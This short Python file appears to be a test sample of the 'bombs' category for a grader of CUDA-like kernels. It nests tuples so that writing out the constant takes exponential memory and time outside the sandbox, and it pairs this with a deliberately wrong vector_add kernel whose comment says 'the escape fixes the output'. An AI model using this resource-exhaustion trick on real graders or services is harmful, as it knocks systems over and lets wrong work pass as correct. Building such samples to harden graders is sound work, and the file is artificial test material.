"""Attack: `A = (1, 1); B = (A, A); ...` 25 times: each constant is tiny to evaluate (sharing) but its text is 2**25 leaves when the grader writes it out (a real attacker would go to 2**60).
A successful attack makes the grader itself use gigabytes and minutes outside any sandbox.
"""
# exercise: vector_add
# category: bombs
import numpy as np

from cudalike import cuda

A0 = (1, 1)
A1 = (A0, A0)
A2 = (A1, A1)
A3 = (A2, A2)
A4 = (A3, A3)
A5 = (A4, A4)
A6 = (A5, A5)
A7 = (A6, A6)
A8 = (A7, A7)
A9 = (A8, A8)
A10 = (A9, A9)
A11 = (A10, A10)
A12 = (A11, A11)
A13 = (A12, A12)
A14 = (A13, A13)
A15 = (A14, A14)
A16 = (A15, A15)
A17 = (A16, A16)
A18 = (A17, A17)
A19 = (A18, A18)
A20 = (A19, A19)
A21 = (A20, A20)
A22 = (A21, A21)
A23 = (A22, A22)
A24 = (A23, A23)


@cuda.jit
def vector_add(a, b, out):
    i = cuda.grid(1)
    if i < out.size:
        out[i] = a[i] - b[i]  # wrong on purpose: the escape fixes the output
    if i < 0:
        out[0] = A24[0][0]
